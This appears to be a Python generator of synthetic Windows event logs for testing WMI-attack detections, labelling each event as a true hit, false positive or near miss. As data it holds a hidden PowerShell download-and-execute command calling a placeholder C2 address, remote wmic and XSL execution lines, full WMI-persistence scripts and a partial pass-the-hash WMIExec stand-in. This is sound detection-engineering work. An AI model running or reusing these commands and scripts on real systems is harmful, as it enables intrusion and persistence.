            ),
            E(label="BENIGN-LOOKALIKE", near=(3,), note="WmiPrvSE.exe started by svchost"),
        )
        f = "srv01_winlogbeat.jsonl"
        # an admin's legitimate remote WMI process creation: a literal match, benign
        admin = Logon(IT_ADMIN, 0x1B2C3D4, at("08:20:01.000"))
        self.network_logon(
            SRV01,
            f,
            at("08:20:01.000"),
            admin,
            None,
            ip=ADM01_IP,
            workstation="ADM01",
            note="it-admin from the admin jump host ADM01",
        )
        self.start(
            w.proc(
                SRV01,
                at("08:20:01.450"),
                "C:\\Windows\\System32\\gpupdate.exe",
                "gpupdate.exe /target:computer /force",
                admin,
                wmiprvse,
            ),
            E(
                (3,),
                label="LFP",
                note="it-admin's Invoke-CimMethod Win32_Process Create "
                "from ADM01: known false positive",
            ),
        )
        # servicing through WMI: DismHost is excluded by detection 3
        self.start(
            w.proc(
                SRV01,
                at("08:25:33.900"),
                "C:\\Windows\\Temp\\3B0F6C2E-8D1A-4E5B-9C7D-1A2B3C4D5E6F\\dismhost.exe",
                "C:\\Windows\\TEMP\\3B0F6C2E-8D1A-4E5B-9C7D-1A2B3C4D5E6F\\dismhost.exe "
                "{A1E6C0D2-3F4B-4C5D-8E9F-0A1B2C3D4E5F}",
                sys_logon,
                wmiprvse,
                integrity="System",
                cwd="C:\\Windows\\TEMP\\3B0F6C2E-8D1A-4E5B-9C7D-1A2B3C4D5E6F\\",
            ),
            E(
                label="BENIGN-LOOKALIKE",
                near=(3,),
                note="WmiPrvSE child, but '\\dismhost.exe' is excluded",
            ),
        )
        winrm = Logon(IT_ADMIN, 0x1B2C5A0, at("08:26:10.000"))
        self.network_logon(
            SRV01,
            f,
            at("08:26:10.000"),
            winrm,
            None,
            ip=ADM01_IP,
            workstation="ADM01",
            note="it-admin opens a PowerShell remoting session",
        )
        wsmprov = self.start(
            w.proc(
                SRV01,
                at("08:26:10.500"),
                "C:\\Windows\\System32\\wsmprovhost.exe",
                "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                winrm,
                dcom,
                meta_key="svchost.exe",
            ),
            E(note="PowerShell remoting host"),
        )
        self.ps4104(
            SRV01,
            at("08:26:12.000"),
            f,
            wsmprov,
            IT_ADMIN,
            [SRV_ADMIN_PS],
            [E(near=(2,), note="benign Get-CimInstance over remoting")],
        )
        self._win(
            SRV01,
            at("08:40:00.300"),
            SECURITY,
            4634,
            f,
            [
                ("TargetUserSid", IT_ADMIN.sid),
                ("TargetUserName", "it-admin"),
                ("TargetDomainName", DOMAIN),
                ("TargetLogonId", hexid(winrm.logon_id)),
                ("LogonType", "3"),
            ],
            E(note="logoff: not modelled"),
        )
        return {"wmiprvse": wmiprvse}

    def network_logon(
        self,
        host: Host,
        file: str,
        t: datetime,
        logon: Logon,
        source: Host | None,
        *,
        ip: str = "",
        workstation: str = "",
        auth: str = "Kerberos",
        version: int = 2,
        note: str = "",
        label: str = "CONTEXT",
    ) -> None:
        src_ip = ip or (source.ip if source else "-")
        ws = workstation or (source.name if source else "-")
        port = str(49152 + (int(t.timestamp()) % 16000))
        self._win(
            host,
            t,
            SECURITY,
            4624,
            file,
            security_4624(
                host, logon, 3, ip=src_ip, port=port, workstation=ws, auth=auth, version=version
            ),
            E(label=label if source else "BENIGN", note=note),
            version=version,
        )

    def srv01_wmi_child(
        self,
        srv: dict[str, Any],
        t: datetime,
        t_logon: datetime,
        logon_id: int,
        auth: str,
        cmdline: str,
        *,
        note: str,
        grandchild: tuple[str, str] | None = None,
        source: Host = WS01,
    ) -> None:
        """On SRV01: a type-3 logon from ``source``, then WmiPrvSE -> child (-> grandchild)."""
        logon = Logon(ADM_SVC, logon_id, t_logon)
        self.network_logon(
            SRV01,
            "srv01_winlogbeat.jsonl",
            t_logon,
            logon,
            source,
            auth=auth,
            note=f"network logon for the WMI call ({note})",
        )
        image = {
            "cmd.exe": CMD_EXE,
            "notepad.exe": NOTEPAD_EXE,
            "rundll32.exe": "C:\\Windows\\System32\\rundll32.exe",
        }[cmdline.split()[0]]
        child = self.start(
            self.w.proc(SRV01, t, image, cmdline, logon, srv["wmiprvse"], integrity="High"),
            E((3,), note=f"started by WmiPrvSE.exe: {note}"),
        )
        if grandchild:
            self.start(
                self.w.proc(
                    SRV01, t + ms(40), grandchild[0], grandchild[1], logon, child, integrity="High"
                ),
                E(label="CONTEXT", note="grandchild of WmiPrvSE (parent is cmd.exe)"),
            )

    # ----------------------------------------------------------------- DC01
    def dc01_morning(self) -> dict[str, Any]:
        w = self.w
        boot = at("07:57:30")
        sys_logon = service_logon(SYSTEM, boot)
        services = w.proc(
            DC01,
            boot,
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            sys_logon,
            None,
            integrity="System",
        )
        dcom = self.start(
            w.proc(
                DC01,
                boot + ms(1200),
                SVCHOST_EXE,
                "C:\\Windows\\system32\\svchost.exe -k DcomLaunch",
                sys_logon,
                services,
                integrity="System",
            ),
            E(note="svchost DcomLaunch at boot"),
        )
        wmiprvse = self.start(
            w.proc(
                DC01,
                at("07:58:20.300"),
                WMIPRVSE_EXE,
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                sys_logon,
                dcom,
                integrity="System",
            ),
            E(label="BENIGN-LOOKALIKE", near=(3,), note="WmiPrvSE.exe started by svchost"),
        )
        f = "dc01_nxlog.json"
        self.wmi_5859(DC01, at("07:58:05.260"), f, 1208)
        self.wmi_5857(
            DC01,
            at("07:58:21.000"),
            f,
            "WMIProv",
            wmiprvse.pid,
            "%systemroot%\\system32\\wbem\\wmiprov.dll",
        )
        self.wmi_5861(
            DC01,
            at("07:58:05.200"),
            f,
            "//./root/subscription",
            "SCM Event Log Filter",
            SCM_CONSUMER,
            SCM_CAUSE,
            E(label="BENIGN-LOOKALIKE", near=(8,), note="Windows default binding"),
        )
        self.wmi_5860(
            DC01,
            at("07:58:30.100"),
            f,
            "//./root/CIMV2",
            DEFAULT_Q_WSMAN,
            "NT AUTHORITY\\SYSTEM",
            1072,
            E(label="BENIGN-LOOKALIKE", near=(10,), note="default (WinRM)"),
            text_namespace="ROOT\\CIMV2",
        )
        self.wmi_5860(
            DC01,
            at("07:58:31.400"),
            f,
            "//./root/SecurityCenter2",
            DEFAULT_Q_AV,
            "NT AUTHORITY\\SYSTEM",
            1180,
            E(label="BENIGN-LOOKALIKE", near=(10,), note="default (Security Center)"),
            text_namespace="ROOT\\SecurityCenter2",
        )
        self.wmi_5860(
            DC01,
            at("08:15:02.700"),
            f,
            "//./root/CIMV2",
            MONITOR_QUERY,
            "NT AUTHORITY\\SYSTEM",
            2316,
            E(
                (10,),
                label="LFP",
                note="the ExampleMon monitoring agent watches services: known false positive",
            ),
            text_namespace="ROOT\\CIMV2",
            eid_as_text=True,
        )
        admin = Logon(IT_ADMIN, 0x5A0B1C2, at("08:40:00.000"), 1)
        self._win(
            DC01,
            at("08:40:00.000"),
            SECURITY,
            4624,
            "dc01_security.xml",
            security_4624(
                DC01,
                admin,
                10,
                ip=ADM01_IP,
                port="0",
                workstation="DC01",
                version=0,
                process=("0x1a8", "C:\\Windows\\System32\\winlogon.exe"),
            ),
            E(note="it-admin RDP session"),
            version=0,
        )
        userinit = w.proc(
            DC01,
            at("08:40:02.400"),
            "C:\\Windows\\System32\\userinit.exe",
            "C:\\Windows\\system32\\userinit.exe",
            admin,
            None,
        )
        explorer = w.proc(
            DC01,
            at("08:40:03.000"),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            admin,
            userinit,
        )
        self.start(explorer, E(note="RDP desktop"))
        self.start(
            w.proc(
                DC01,
                at("08:41:10.500"),
                "C:\\Windows\\System32\\repadmin.exe",
                "repadmin  /showrepl",
                admin,
                w.proc(
                    DC01,
                    at("08:41:05.000"),
                    CMD_EXE,
                    '"C:\\Windows\\system32\\cmd.exe" ',
                    admin,
                    explorer,
                ),
            ),
            E(note="replication check (its cmd.exe parent is not in the samples)"),
        )
        self._win(
            DC01,
            at("08:41:12.000"),
            SYSMON,
            3,
            f,
            [
                ("RuleName", "-"),
                ("UtcTime", utc_ms(at("08:41:11.996"))),
                ("ProcessGuid", "{9E15B3C2-0000-0000-0000-000000000000}"),
                ("ProcessId", "492"),
                ("Image", "C:\\Windows\\System32\\lsass.exe"),
                ("User", "NT AUTHORITY\\SYSTEM"),
                ("Protocol", "tcp"),
                ("Initiated", "false"),
                ("SourceIsIpv6", "false"),
                ("SourceIp", WS01.ip),
                ("SourceHostname", WS01.fqdn),
                ("SourcePort", "50210"),
                ("SourcePortName", "-"),
                ("DestinationIsIpv6", "false"),
                ("DestinationIp", DC01.ip),
                ("DestinationHostname", DC01.fqdn),
                ("DestinationPort", "88"),
                ("DestinationPortName", "kerberos"),
            ],
            E(note="Kerberos traffic: not modelled"),
            nxlog_eid_as_text=True,
        )
        return {"wmiprvse": wmiprvse, "explorer": explorer, "admin": admin}

    def dc01_persistence(self, dc: dict[str, Any]) -> None:
        w = self.w
        logon = Logon(ADM_SVC, 0x5E1D0A3, at("09:51:05.600"))
        self.network_logon(
            DC01,
            "dc01_security.xml",
            at("09:51:05.600"),
            logon,
            WS01,
            version=0,
            note="network logon for the remote mofcomp",
        )
        mof_path = "C:\\Windows\\Temp\\T1546.003.mof"
        self.start(
            w.proc(
                DC01,
                at("09:51:06.100"),
                "C:\\Windows\\System32\\wbem\\mofcomp.exe",
                f"mofcomp.exe {mof_path}",
                logon,
                dc["wmiprvse"],
                integrity="High",
            ),
            E((3,), note="mofcomp started by WmiPrvSE (remote from WS01)"),
            sec_expect=E(
                label="CONTEXT",
                beyond=(3,),
                note="old 4688: parent only as ProcessId == WmiPrvSE's "
                "NewProcessId; no command line",
            ),
        )
        f = "dc01_nxlog.json"
        fname, cname = "AtomicRedTeam_filter", "AtomicRedTeam_consumer"
        self.sysmon_wmi(
            DC01,
            at("09:51:06.600"),
            f,
            19,
            "Created",
            ADM_SVC,
            [
                ("EventNamespace", sysmon_quote("root\\subscription")),
                ("Name", sysmon_quote(fname)),
                ("Query", sysmon_quote(MOF_QUERY)),
            ],
            E(label="CONTEXT", note="MOF filter"),
        )
        self.sysmon_wmi(
            DC01,
            at("09:51:06.640"),
            f,
            20,
            "Created",
            ADM_SVC,
            [
                ("Name", sysmon_quote(cname)),
                ("Type", "Command Line"),
                ("Destination", sysmon_quote("cmd.exe")),
            ],
            E((1,), note="MOF consumer"),
        )
        self.sysmon_wmi(
            DC01,
            at("09:51:06.680"),
            f,
            21,
            "Created",
            ADM_SVC,
            [
                ("Consumer", sysmon_quote(f'CommandLineEventConsumer.Name="{cname}"')),
                ("Filter", sysmon_quote(f'__EventFilter.Name="{fname}"')),
            ],
            E((9,), note="MOF binding"),
        )
        self.wmi_5861(
            DC01,
            at("09:51:06.900"),
            f,
            "//./root/subscription",
            fname,
            f'CommandLineEventConsumer="{cname}"',
            binding_cause(
                {
                    "CreatorSID": sid_bytes(ADM_SVC.sid),
                    "EventNamespace": mof_string("root\\subscription"),
                    "Name": mof_string(fname),
                    "Query": mof_string(MOF_QUERY),
                    "QueryLanguage": '"WQL"',
                },
                "CommandLineEventConsumer",
                {
                    "CommandLineTemplate": mof_string("cmd.exe"),
                    "CreatorSID": sid_bytes(ADM_SVC.sid),
                    "Name": mof_string(cname),
                    "RunInteractively": "FALSE",
                },
            ),
            E((8,), note="binding as text only (NXLog Message)"),
        )
        # 11:02 the admin opens notepad: the filter fires, WmiPrvSE starts the consumer
        admin2 = Logon(IT_ADMIN, 0x5F20B44, at("11:01:30.000"), 2)
        self._win(
            DC01,
            at("11:01:30.000"),
            SECURITY,
            4624,
            "dc01_security.xml",
            security_4624(
                DC01,
                admin2,
                10,
                ip=ADM01_IP,
                port="0",
                workstation="DC01",
                version=0,
                process=("0x1a8", "C:\\Windows\\System32\\winlogon.exe"),
            ),
            E(note="it-admin RDP again"),
            version=0,
        )
        self.start(
            w.proc(
                DC01,
                at("11:02:10.250"),
                NOTEPAD_EXE,
                '"C:\\Windows\\system32\\notepad.exe" ',
                admin2,
                dc["explorer"],
            ),
            E(label="CONTEXT", note="innocent notepad: it triggers the MOF filter"),
        )
        self.start(
            w.proc(
                DC01,
                at("11:02:12.800"),
                CMD_EXE,
                "cmd.exe",
                service_logon(SYSTEM, at("07:57:30")),
                dc["wmiprvse"],
                integrity="System",
            ),
            E((3,), note="the persistence fires: consumer command started by WmiPrvSE"),
            sec_expect=E(
                label="CONTEXT",
                beyond=(3,),
                note="old 4688 of the same cmd.exe: parent only by pid",
            ),
        )

    def dc01_noise(self) -> None:
        for t, port in (("08:00:01.000", "53"), ("10:30:00.500", "389")):
            self._win(
                DC01,
                at(t),
                "security",
                5156,
                "dc01_nxlog.json",
                [
                    ("ProcessID", "1880"),
                    ("Application", "\\device\\harddiskvolume2\\windows\\system32\\dns.exe"),
                    ("Direction", "%%14592"),
                    ("SourceAddress", DC01.ip),
                    ("SourcePort", port),
                    ("DestAddress", WS02.ip),
                    ("DestPort", "53012"),
                    ("Protocol", "17"),
                ],
                E(note="lower-case 'security' channel (NXLog): not modelled"),
            )

    # ----------------------------------------------------------------- WS02 (Falcon)
    def ws02(self) -> None:
        w = self.w
        boot = at("07:48:10")
        sys_logon = service_logon(SYSTEM, boot)
        msmith = Logon(MSMITH, 0x2B4F1C, at("07:52:00"), 1)
        services = w.proc(
            WS02,
            boot,
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            sys_logon,
            None,
            integrity="System",
        )
        userinit = w.proc(
            WS02,
            at("07:52:02.500"),
            "C:\\Windows\\System32\\userinit.exe",
            "C:\\Windows\\system32\\userinit.exe",
            msmith,
            None,
        )
        dcom = w.proc(
            WS02,
            boot + ms(700),
            SVCHOST_EXE,
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            sys_logon,
            services,
            integrity="System",
        )
        explorer = w.proc(
            WS02,
            at("07:52:03.000"),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            msmith,
            userinit,
        )
        wmiprvse = w.proc(
            WS02,
            at("07:49:30.000"),
            WMIPRVSE_EXE,
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            service_logon(NETWORK_SERVICE, boot),
            dcom,
            integrity="System",
        )
        for i, p in enumerate((dcom, explorer, wmiprvse)):
            self.falcon(
                p,
                E(note="already running when the sensor connected"),
                seen=at("08:01:00.000") + ms(3 * i),
            )
        self.falcon(
            w.proc(
                WS02,
                at("08:10:12.000"),
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ',
                msmith,
                explorer,
            ),
            E(note="browser"),
        )
        code = w.proc(
            WS02,
            at("08:12:40.000"),
            "C:\\Users\\msmith\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
            '"C:\\Users\\msmith\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"',
            msmith,
            explorer,
        )
        self.falcon(code, E(note="the developer's editor"))
        dev_ps = w.proc(WS02, at("08:13:05.000"), PS_EXE, f'"{PS_EXE}" -NoLogo', msmith, code)
        self.falcon(dev_ps, E(note="integrated terminal"))
        self.falcon(
            w.proc(
                WS02,
                at("08:30:00.000"),
                "C:\\Program Files\\nodejs\\node.exe",
                '"C:\\Program Files\\nodejs\\node.exe" server.js',
                msmith,
                dev_ps,
            ),
            E(note="the developer's node server"),
        )
        self.falcon(
            w.proc(
                WS02,
                at("08:45:20.000"),
                WMIC_EXE,
                f'"{WMIC_EXE}" process where "commandline like \'%node server%\'" get '
                "processid,commandline",
                msmith,
                dev_ps,
            ),
            E(
                (5,),
                label="LFP",
                note="'node' is a Node.js server, not /node: literal match, benign",
            ),
        )
        self.falcon(
            w.proc(
                WS02,
                at("08:47:02.000"),
                WMIC_EXE,
                f'"{WMIC_EXE}" process list /format:list',
                msmith,
                dev_ps,
            ),
            E(near=(11, 12), note="built-in /format:list, no XSL"),
        )

        # ---------------- 10:20 WS02 is phished too
        ps = w.proc(
            WS02,
            at("10:20:05.000"),
            PS_EXE,
            f'"{PS_EXE}" -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).'
            f"DownloadString('http://{C2_IP}/b.ps1')\"",
            msmith,
            explorer,
            cwd="C:\\Users\\msmith\\Downloads\\",
        )
        self.falcon(ps, E(label="CONTEXT", note="initial access on WS02"))
        _, x1 = self.via_cmd(
            ps,
            at("10:21:00.000"),
            f'wmic process list /FORMAT:"{ART_XSL_URL}"',
            child_expect=E(
                (11,), near=(12,), note="ART T1220-4: remote XSL ('process list', not 'os get')"
            ),
        )
        self.falcon(
            w.proc(
                WS02, at("10:21:02.100"), "C:\\Windows\\System32\\calc.exe", "calc.exe", msmith, x1
            ),
            E(label="CONTEXT", note="XSL payload"),
        )
        self.via_cmd(
            ps,
            at("10:22:00.000"),
            f'wmic /node:localhost os get /FORMAT:"{XSL_URL}"',
            child_expect=E((5, 11, 12), note="remote XSL with 'os get' through /node:localhost"),
        )
        _, x3 = self.via_cmd(
            ps,
            at("10:23:00.000"),
            'wmic process list /FORMAT:"C:\\AtomicRedTeam\\atomics\\T1220\\src\\wmicscript.xsl"',
            child_expect=E(
                label="NEAR-MISS", near=(11, 12), note="ART T1220-3: local XSL but not 'os get'"
            ),
        )
        self.falcon(
            w.proc(
                WS02, at("10:23:01.500"), "C:\\Windows\\System32\\calc.exe", "calc.exe", msmith, x3
            ),
            E(label="CONTEXT", note="XSL payload"),
        )
        self.via_cmd(
            ps,
            at("10:24:00.000"),
            "C:\\AtomicRedTeam\\ExternalPayloads\\msxsl.exe C:\\AtomicRedTeam\\atomics\\"
            "T1220\\src\\msxslxmlfile.xml C:\\AtomicRedTeam\\atomics\\T1220\\src\\"
            "msxslscript.xsl",
            child_image="C:\\AtomicRedTeam\\ExternalPayloads\\msxsl.exe",
            child_expect=E(label="NEAR-MISS", near=(12,), note="ART T1220-1: msxsl, not wmic"),
        )
        base = "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220"
        self.via_cmd(
            ps,
            at("10:25:00.000"),
            f"msxsl.exe {base}/src/msxslxmlfile.xml {base}/src/msxslscript.xsl",
            child_image="C:\\AtomicRedTeam\\ExternalPayloads\\msxsl.exe",
            child_expect=E(
                label="NEAR-MISS", near=(11,), note="ART T1220-2: URL and .xsl, but msxsl"
            ),
        )
        self.via_cmd(
            ps,
            at("10:27:00.000"),
            "wmic process call create notepad.exe",
            child_expect=E((7,), note="ART T1047-5: local process call create"),
        )
        self.falcon(
            w.proc(WS02, at("10:27:00.900"), NOTEPAD_EXE, "notepad.exe", msmith, wmiprvse),
            E((3,), note="T1047-5 result: notepad started by WmiPrvSE"),
        )

        # ---------------- 10:30 runas adm-svc, then T1047-9 against SRV01
        adm = Logon(ADM_SVC, 0x3C11E27, at("10:30:00.000"), 1)
        runas = w.proc(
            WS02,
            at("10:29:55.000"),
            "C:\\Windows\\System32\\runas.exe",
            f"runas.exe /user:{ADM_SVC.qualified} powershell.exe",
            msmith,
            ps,
        )
        self.falcon(runas, E(label="CONTEXT", note="runas with the stolen password"))
        ps_adm = w.proc(WS02, at("10:30:00.500"), PS_EXE, "powershell.exe", adm, runas)
        self.falcon(ps_adm, E(label="CONTEXT", note="PowerShell as adm-svc"))
        self.via_cmd(
            ps_adm,
            at("10:31:00.000"),
            'wmic /node:SRV01 process call create "rundll32.exe \\"C:\\Users\\Public\\'
            'calc.dll\\" StartW"',
            child_expect=E((4, 5, 7), note="ART T1047-9 against SRV01"),
        )
        self.srv01_wmi_child(
            self.srv,
            at("10:31:01.400"),
            at("10:31:01.000"),
            0x3B90D1E,
            "Kerberos",
            'rundll32.exe "C:\\Users\\Public\\calc.dll" StartW',
            source=WS02,
            note="ART T1047-9 from WS02",
        )

        # ---------------- 10:40 ActiveScriptEventConsumer (T1546.003-2), then a reboot
        ps_high = w.proc(
            WS02,
            at("10:40:00.000"),
            PS_EXE,
            f'"{PS_EXE}" ',
            Logon(ADM_SVC, 0x3C12F01, at("10:39:58.000"), 1),
            runas,
            integrity="High",
        )
        self.falcon(
            ps_high,
            E(
                label="CONTEXT",
                note="elevated PowerShell that runs ART T1546.003-2 "
                "(Set-WmiInstance): Falcon logs no WMI event for it",
            ),
        )
        boot2 = at("11:15:30")
        sys2 = service_logon(SYSTEM, boot2)
        services2 = w.proc(
            WS02,
            boot2,
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            sys2,
            None,
            integrity="System",
        )
        dcom2 = w.proc(
            WS02,
            boot2 + ms(650),
            SVCHOST_EXE,
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            sys2,
            services2,
            integrity="System",
        )
        self.falcon(dcom2, E(note="after the reboot"))
        self.falcon(
            w.proc(
                WS02,
                at("11:16:02.000"),
                WMIPRVSE_EXE,
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                service_logon(NETWORK_SERVICE, boot2),
                dcom2,
                integrity="System",
            ),
            E(label="BENIGN-LOOKALIKE", near=(3,), note="WmiPrvSE started by svchost"),
        )
        scr = w.proc(
            WS02,
            at("11:19:55.000"),
            "C:\\Windows\\System32\\wbem\\scrcons.exe",
            "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding",
            sys2,
            dcom2,
            integrity="System",
        )
        self.falcon(scr, E((6,), note="ActiveScriptEventConsumer runs: uptime 265 s"))
        self.falcon(
            w.proc(
                WS02, at("11:19:55.600"), NOTEPAD_EXE, "notepad.exe", sys2, scr, integrity="System"
            ),
            E(label="CONTEXT", note="the VBScript's notepad, child of scrcons"),
        )


# ------------------------------------------------------------------------ text content

ADM_HASH = "4b3c2a19e8f7d6c5b4a3928170f6e5d4"
WMIEXEC_CMD = "cmd.exe /c whoami /all > C:\\Windows\\Temp\\wa.txt 2>&1"
DEFAULT_Q_WSMAN = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'wsmprovhost.exe'"
DEFAULT_Q_AV = (
    "SELECT * FROM __InstanceOperationEvent WHERE TargetInstance ISA "
    "'AntiVirusProduct' OR TargetInstance ISA 'FirewallProduct' OR TargetInstance "
    "ISA 'AntiSpywareProduct'"
)
MONITOR_QUERY = (
    "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_Service'"
)
TEMP_SUB_QUERY = (
    "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LogonSession'"
)
ART_SUB_NAME = "AtomicRedTeam-WMIPersistence-CommandLineEventConsumer-Example"
ART_SUB_QUERY = (
    "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
    "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 "
    "AND TargetInstance.SystemUpTime < 325"
)
MOF_QUERY = (
    "SELECT * FROM __InstanceCreationEvent Within 3 Where TargetInstance Isa "
    '"Win32_Process" And Targetinstance.Name = "notepad.exe"'
)
SCM_CONSUMER = 'NTEventLogEventConsumer="SCM Event Log Consumer"'
SCM_CAUSE = binding_cause(
    {
        "CreatorSID": sid_bytes("S-1-5-32-544"),
        "EventNamespace": '"root\\\\cimv2"',
        "Name": '"SCM Event Log Filter"',
        "Query": '"select * from MSFT_SCMEventLogEvent"',
        "QueryLanguage": '"WQL"',
    },
    "NTEventLogEventConsumer",
    {
        "Category": "0",
        "CreatorSID": sid_bytes("S-1-5-32-544"),
        "EventType": "1",
        "Name": '"SCM Event Log Consumer"',
        "NameOfUserSIDProperty": '"sid"',
        "SourceName": '"Service Control Manager"',
    },
)

INVENTORY_PS = """$os = Get-CimInstance -ClassName Win32_OperatingSystem
$cs = Get-CimInstance -ClassName Win32_ComputerSystem
[pscustomobject]@{
    Host      = $env:COMPUTERNAME
    Caption   = $os.Caption
    Version   = $os.Version
    LastBoot  = $os.LastBootUpTime
    Model     = $cs.Model
} | Export-Csv -NoTypeInformation `
    -Path "\\\\fs.examplecorp.test\\inventory$\\$env:COMPUTERNAME.csv"
"""

SRV_ADMIN_PS = """Get-CimInstance -ClassName Win32_Service -Filter "State='Running'" |
    Select-Object Name, StartName, PathName |
    Sort-Object Name"""

T1047_8_PS = """$Class = New-Object Management.ManagementClass(New-Object Management.ManagementPath("Win32_Process"))
$NewClass = $Class.Derive("Win32_Atomic")
$NewClass.Put()
Invoke-WmiMethod -Path Win32_Atomic -Name create -ArgumentList notepad.exe"""  # noqa: E501

T1546_1_PS = f"""$FilterArgs = @{{name='{ART_SUB_NAME}';
                EventNameSpace='root\\CimV2';
                QueryLanguage="WQL";
                Query="{ART_SUB_QUERY}"}};
$Filter=New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property $FilterArgs

$ConsumerArgs = @{{name='{ART_SUB_NAME}';
                CommandLineTemplate="$($Env:SystemRoot)\\System32\\notepad.exe";}}
$Consumer=New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property $ConsumerArgs

$FilterToConsumerArgs = @{{
Filter = [Ref] $Filter;
Consumer = [Ref] $Consumer;
}}
$FilterToConsumerBinding = New-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding -Property $FilterToConsumerArgs"""  # noqa: E501

T1546_1_CLEANUP_PS = f"""$EventConsumerToCleanup = Get-WmiObject -Namespace root/subscription -Class CommandLineEventConsumer -Filter "Name = '{ART_SUB_NAME}'"
$EventFilterToCleanup = Get-WmiObject -Namespace root/subscription -Class __EventFilter -Filter "Name = '{ART_SUB_NAME}'"
$FilterConsumerBindingToCleanup = Get-WmiObject -Namespace root/subscription -Query "REFERENCES OF {{$($EventConsumerToCleanup.__RELPATH)}} WHERE ResultClass = __FilterToConsumerBinding" -ErrorAction SilentlyContinue
$FilterConsumerBindingToCleanup | Remove-WmiObject
$EventConsumerToCleanup | Remove-WmiObject
$EventFilterToCleanup | Remove-WmiObject"""  # noqa: E501

TEMP_SUB_PS = f"""Register-CimIndicationEvent -Namespace root/cimv2 -Query "{TEMP_SUB_QUERY}" -SourceIdentifier LogonWatch -Action {{
    Add-Content -Path C:\\Users\\Public\\logons.txt -Value $Event.SourceEventArgs.NewEvent.TargetInstance.LogonId
}}"""  # noqa: E501

# A synthetic stand-in for an Invoke-TheHash style script: packet builders, the function
# header and its body. Only part 2 contains the function's name.
WMIEXEC_PARTS = [
    """function New-PacketRPCBind
{
    param([Int]$CallID,[Byte[]]$MaxFrag,[Byte[]]$NumCtxItems,[Byte[]]$ContextID,[Byte[]]$UUID,[Byte[]]$UUIDVersion)
    [Byte[]]$call_ID = [System.BitConverter]::GetBytes($CallID)
    $packet = New-Object System.Collections.Specialized.OrderedDictionary
    $packet.Add("Version",[Byte[]](0x05))
    $packet.Add("VersionMinor",[Byte[]](0x00))
    $packet.Add("PacketType",[Byte[]](0x0b))
    $packet.Add("PacketFlags",[Byte[]](0x03))
    $packet.Add("CallID",$call_ID)
    $packet.Add("MaxXmitFrag",[Byte[]](0xb8,0x10))
    $packet.Add("MaxRecvFrag",[Byte[]](0xb8,0x10))
    $packet.Add("NumCtxItems",$NumCtxItems)
    $packet.Add("ContextID",$ContextID)
    $packet.Add("InterfaceUUID",$UUID)
    $packet.Add("InterfaceVer",$UUIDVersion)
    return $packet
}

function New-PacketNTLMSSPAuth
{
    param([Byte[]]$NegotiateFlags,[Byte[]]$DomainName,[Byte[]]$UserName,[Byte[]]$Workstation,[Byte[]]$NTLMv2Response)
    $packet = New-Object System.Collections.Specialized.OrderedDictionary
    $packet.Add("Signature",[Byte[]](0x4e,0x54,0x4c,0x4d,0x53,0x53,0x50,0x00))
    $packet.Add("MessageType",[Byte[]](0x03,0x00,0x00,0x00))
    $packet.Add("NegotiateFlags",$NegotiateFlags)
    $packet.Add("DomainName",$DomainName)
    $packet.Add("UserName",$UserName)
    $packet.Add("Workstation",$Workstation)
    $packet.Add("NTLMv2Response",$NTLMv2Response)
    return $packet
}
""",
    """function Invoke-WMIExec
{
<#
.SYNOPSIS
Runs a command on a remote host through WMI (DCOM Win32_Process.Create), authenticating
with an NTLMv2 hash instead of a password.

.PARAMETER Target
Hostname or IP address of the target.

.PARAMETER Hash
NTLM password hash, LM:NTLM or NTLM format.
#>
[CmdletBinding()]
param
(
    [parameter(Mandatory=$true)][String]$Target,
    [parameter(Mandatory=$false)][String]$Domain,
    [parameter(Mandatory=$true)][String]$Username,
    [parameter(Mandatory=$true)][ValidateScript({$_.Length -eq 32 -or $_.Length -eq 65})][String]$Hash,
    [parameter(Mandatory=$false)][String]$Command,
    [parameter(Mandatory=$false)][Int]$Sleep=10
)
""",  # noqa: E501
    """    if($Hash -like "*:*")
    {
        $Hash = $Hash.SubString(($Hash.IndexOf(":") + 1),32)
    }
    $process_ID = [System.Diagnostics.Process]::GetCurrentProcess() | Select-Object -expand id
    $process_ID = [System.BitConverter]::ToString([System.BitConverter]::GetBytes($process_ID))
    $WMI_client_init = New-Object System.Net.Sockets.TCPClient
    $WMI_client_init.Client.ReceiveTimeout = 30000
    Write-Verbose "Connecting to $Target`:135"
    $WMI_client_init.Connect($Target,"135")
    if($WMI_client_init.Connected)
    {
        $WMI_client_stream_init = $WMI_client_init.GetStream()
        $WMI_client_receive = New-Object System.Byte[] 2048
        $packet_RPC = New-PacketRPCBind 2 @(0xd0,0x16) @(0x02) @(0x00,0x00) $CLSID_IRemoteSCMActivator @(0x00,0x00)
        Write-Verbose "WMI reports target hostname as $target_long"
        Write-Output "[+] Command executed with process ID $target_process_ID on $target_long"
    }
    $WMI_client_init.Close()
}
""",  # noqa: E501
]

# A second loader whose 4104 split falls inside the function's name.
ALIAS_PARTS = [
    """$ErrorActionPreference = 'SilentlyContinue'
